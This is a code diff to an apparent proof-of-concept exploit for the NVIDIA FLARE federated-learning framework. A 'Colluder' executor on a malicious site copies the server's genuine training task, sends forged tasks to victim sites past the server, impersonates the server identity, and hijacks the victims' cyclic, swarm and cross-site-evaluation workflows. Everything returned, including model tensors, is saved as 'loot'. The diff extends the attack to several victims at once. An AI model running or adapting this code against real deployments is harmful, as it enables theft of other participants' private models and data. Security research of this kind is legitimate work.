@@ -23,95 +23,101 @@ from nvflare.apis.shareable import ReservedHeaderKey, Shareable, make_reply
 from nvflare.apis.signal import Signal
 from nvflare.app_common.app_constant import AppConstants
 from nvflare.app_common.ccwf.common import Constant, ModelType
+from nvflare.fuel.utils import fobs
+from nvflare.fuel.utils.fobs import FOBSContextKey
 from safetensors.torch import load_file, save_file
 
 LOOT = "loot"
 GENUINE = "genuine"
+DONE = "done"
 REQUEST = "fdg_request"
 TIMEOUT_S = 30.0
 PATIENCE_S = 4.0
 PROJECT = "fdg"  # as which the server speaks to its sites
-PREFIXES = ("cyclic", "swarm", "cse")
+
+Genuine = tuple[dict[str, torch.Tensor], dict[str, Any]]  # model, and meta, of a task of the server's
 
 
 class Colluder(Executor):
-    """Takes what the client-controlled workflows send to a site, keeps it in a file, and attacks ``victim``.
+    """Takes what the client-controlled workflows send to a site, keeps it in a file, and attacks ``victims``.
 
     It starts with the first training task of a job, from what came with it, or when a client-controlled workflow is to
     start here, from what an earlier job left; what it got lies in ``loot/`` of this site's kit, one file per message.
     """
 
-    def __init__(self, victim: str) -> None:
+    def __init__(self, victims: list[str]) -> None:
         super().__init__()
-        self.victim = victim
-        self._genuine: tuple[dict[str, torch.Tensor], dict[str, Any]] | None = None
-        self._attacks = threading.Thread(target=self._attack, daemon=True)
+        self.victims = victims
+        self._genuine: Genuine | None = None
+        self._attacks = [threading.Thread(target=self._attack, args=(victim,), daemon=True) for victim in victims]
         self._keeping = threading.Lock()
 
     def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
-        """Learn what a genuine task looks like, and begin."""
+        """Learn what a genuine task looks like, and begin; the round lasts until all ways were tried."""
         if event_type == EventType.START_RUN:
             self._engine = fl_ctx.get_engine()
             self.folder = Path(self._engine.get_workspace().get_root_dir()) / LOOT
             self.folder.mkdir(exist_ok=True)
             self._engine.register_aux_message_handler("swarm_req_to_submit_learn_result", self._permit)
         if event_type == EventType.BEFORE_TASK_EXECUTION and fl_ctx.get_prop(FLContextKey.TASK_NAME) == "train":
-            dxo = fl_ctx.get_prop(FLContextKey.TASK_DATA)["DXO"]
-            self._genuine = dict(dxo["data"]), {REQUEST: dxo["meta"][REQUEST]}
-            save_file(self._genuine[0], self.folder / f"{GENUINE}.safetensors")
-            (self.folder / f"{GENUINE}.json").write_text(json.dumps(self._genuine[1]), encoding="utf-8")
-            self._begin()
-            self._attacks.join()  # the round lasts until all ways were tried
+            if self._genuine is None:
+                dxo = fl_ctx.get_prop(FLContextKey.TASK_DATA)["DXO"]
+                self._genuine = dict(dxo["data"]), {REQUEST: dxo["meta"][REQUEST]}
+                save_file(self._genuine[0], self.folder / f"{GENUINE}.safetensors")
+                (self.folder / f"{GENUINE}.json").write_text(json.dumps(self._genuine[1]), encoding="utf-8")
+                self._begin()
+            for attack in self._attacks:
+                attack.join()
 
     def execute(self, task_name: str, shareable: Shareable, fl_ctx: FLContext, abort_signal: Signal) -> Shareable:
         """Answer a task of a client-controlled workflow; whoever sent it, what is in it is kept."""
         self._keep(task_name, shareable)
-        if task_name.endswith("_start"):
-            if self._genuine is None:
-                meta = json.loads((self.folder / f"{GENUINE}.json").read_text(encoding="utf-8"))
-                self._genuine = load_file(self.folder / f"{GENUINE}.safetensors"), meta
+        if task_name.endswith("_start") and self._genuine is None:
+            meta = json.loads((self.folder / f"{GENUINE}.json").read_text(encoding="utf-8"))
+            self._genuine = load_file(self.folder / f"{GENUINE}.safetensors"), meta
             self._begin()
         if task_name == "cse_ask_for_model":
-            return self._task()
+            return self._task(self.victims[0])
         return make_reply(ReturnCode.OK)
 
     def _permit(self, topic: str, request: Shareable, fl_ctx: FLContext) -> Shareable:
         return make_reply(ReturnCode.OK)
 
     def _begin(self) -> None:
-        if not self._attacks.ident:
-            self._attacks.start()
+        for attack in self._attacks:
+            attack.start()
 
-    def _attack(self) -> None:
-        for name, attack in self._ways().items():
+    def _attack(self, victim: str) -> None:
+        for name, attack in self._ways(victim).items():
             try:
-                self._keep(f"answer to {name}", attack())
+                self._keep(f"answer of {victim} to {name}", attack())
             except Exception as error:  # noqa: BLE001 - the next way may work
-                (self.folder / f"{name}.error").write_text(f"{type(error).__name__}: {error}", encoding="utf-8")
-        (self.folder / "done").write_text("", encoding="utf-8")
+                self._note(f"answer of {victim} to {name}", repr(error))
+        (self.folder / f"{DONE}.{victim}").write_text("", encoding="utf-8")
 
-    def _ways(self) -> dict[str, Callable[[], Shareable]]:
+    def _ways(self, victim: str) -> dict[str, Callable[[], Shareable]]:
         """Return the attacks by name, each of which sends what it takes and returns the victim's last answer."""
+        local_model = self._evaluation(ModelType.LOCAL)
         return {
-            "plain": lambda: self._send("train", self._task()),
-            "as the server": lambda: self._send("train", self._task(), identity=PROJECT),
-            "probe": lambda: self._send("probe", self._task()),
-            "evaluate": lambda: self._send("evaluate", self._task()),
-            "cyclic": lambda: self._workflow("cyclic", "learn", self._task()),
-            "swarm": lambda: self._workflow("swarm", "learn", self._task()),
-            "cse": lambda: self._workflow("cse", "eval", self._evaluation(ModelType.GLOBAL)),
-            "cse, local model": lambda: self._workflow("cse", "prep_model", self._evaluation(ModelType.LOCAL)),
-            "cse, prepared model": lambda: self._send("cse_ask_for_model", self._evaluation(ModelType.LOCAL)),
+            "plain": lambda: self._send(victim, "train", self._task(victim)),
+            "as the server": lambda: self._send(victim, "train", self._task(victim), identity=PROJECT),
+            "probe": lambda: self._send(victim, "probe", self._task(victim)),
+            "evaluate": lambda: self._send(victim, "evaluate", self._task(victim)),
+            "cyclic": lambda: self._workflow(victim, "cyclic", "learn", self._task(victim)),
+            "swarm": lambda: self._workflow(victim, "swarm", "learn", self._task(victim)),
+            "cse": lambda: self._workflow(victim, "cse", "eval", self._evaluation(ModelType.GLOBAL)),
+            "cse, local model": lambda: self._workflow(victim, "cse", "prep_model", local_model),
+            "cse, prepared model": lambda: self._send(victim, "cse_ask_for_model", local_model),
         }
 
-    def _task(self) -> Shareable:
+    def _task(self, victim: str) -> Shareable:
         """Return a training task like the server's, with all that the client-controlled workflows look for."""
         assert self._genuine is not None
         state, meta = self._genuine
         task = DXO(DataKind.WEIGHTS, data=dict(state), meta=copy.deepcopy(meta)).to_shareable()
         task.set_header(AppConstants.CURRENT_ROUND, 0)
         task.set_header(AppConstants.NUM_ROUNDS, 1)
-        task.set_header(Constant.CLIENT_ORDER, [self.victim, self._me])
+        task.set_header(Constant.CLIENT_ORDER, [victim, self._me])
         task.set_header(Constant.AGGREGATOR, self._me)
         return task
 
@@ -125,9 +131,9 @@ class Colluder(Executor):
             }
         )
 
-    def _workflow(self, prefix: str, step: str, data: Shareable) -> Shareable:
+    def _workflow(self, victim: str, prefix: str, step: str, data: Shareable) -> Shareable:
         """Configure a client-controlled workflow at the victim, as its server half would, and ask for one step."""
-        clients = [self.victim, self._me]
+        clients = [victim, self._me]
         config = {
             FLContextKey.WORKFLOW: f"stolen_{prefix}_{time.monotonic_ns()}",
             AppConstants.NUM_ROUNDS: 1,
@@ -135,39 +141,47 @@ class Colluder(Executor):
             Constant.ORDER: "fixed",
             Constant.PRIVATE_P2P: False,
             Constant.RESULT_CLIENTS: clients,
-            Constant.EVALUATORS: [self.victim],
+            Constant.EVALUATORS: [victim],
             Constant.EVALUATEES: [],
             Constant.EVAL_LOCAL: False,
             Constant.EVAL_GLOBAL: False,
             Constant.AGGR_CLIENTS: [self._me],
-            Constant.TRAIN_CLIENTS: [self.victim],
+            Constant.TRAIN_CLIENTS: [victim],
             Constant.CLIENTS: clients,
         }
-        self._send(f"{prefix}_config", Shareable({Constant.CONFIG: config}))
-        answer = self._send(f"{prefix}_{step}", data)
+        self._send(victim, f"{prefix}_config", Shareable({Constant.CONFIG: config}))
+        answer = self._send(victim, f"{prefix}_{step}", data)
         time.sleep(PATIENCE_S)  # the victim's workflow does the task in a thread of its own, and sends what comes of it
         return answer
 
-    def _send(self, task: str, data: Shareable, identity: str | None = None) -> Shareable:
+    def _send(self, victim: str, task: str, data: Shareable, identity: str | None = None) -> Shareable:
         """Hand a task to the victim's runner, past the server; ``identity``: as whom."""
         with self._engine.new_context() as fl_ctx:
             if identity is not None:
                 fl_ctx.put(ReservedKey.IDENTITY_NAME, identity, private=False, sticky=False)
             data.set_header(ReservedHeaderKey.TASK_NAME, task)
             data.set_header(ReservedHeaderKey.TASK_ID, f"{task}-{time.monotonic_ns()}")
-            answers = self._engine.send_aux_request([self.victim], ReservedTopic.DO_TASK, data, TIMEOUT_S, fl_ctx)
-        answer = answers.get(self.victim)
+            answers = self._engine.send_aux_request([victim], ReservedTopic.DO_TASK, data, TIMEOUT_S, fl_ctx)
+        answer = answers.get(victim)
         return answer if isinstance(answer, Shareable) else Shareable({"answer": repr(answer)})
 
     def _keep(self, what: str, message: Shareable) -> None:
         """Write down all that came: tensors as they are, the rest as text."""
+        cell = self._engine.get_cell()  # tensors may be references, which the receiver is to follow
+        encoded = fobs.dumps(message, fobs_ctx=cell.get_fobs_context())
+        message = fobs.loads(encoded, fobs_ctx=cell.get_fobs_context(props={FOBSContextKey.PASS_THROUGH: False}))
         tensors: dict[str, torch.Tensor] = {}
         _collect(tensors, "", message)
+        content = {key: value if key != "DXO" else value["kind"] for key, value in message.items()}
+        name = self._note(what, repr(content))
+        if tensors:
+            save_file(tensors, self.folder / f"{name}.safetensors")
+
+    def _note(self, what: str, text: str) -> str:
         with self._keeping:
             name = f"{len(list(self.folder.iterdir())):03d} {what}"
-            (self.folder / f"{name}.txt").write_text(repr(message)[:100_000], encoding="utf-8")
-            if tensors:
-                save_file(tensors, self.folder / f"{name}.safetensors")
+            (self.folder / f"{name}.txt").write_text(text, encoding="utf-8")
+        return name
 
     @property
     def _me(self) -> str:
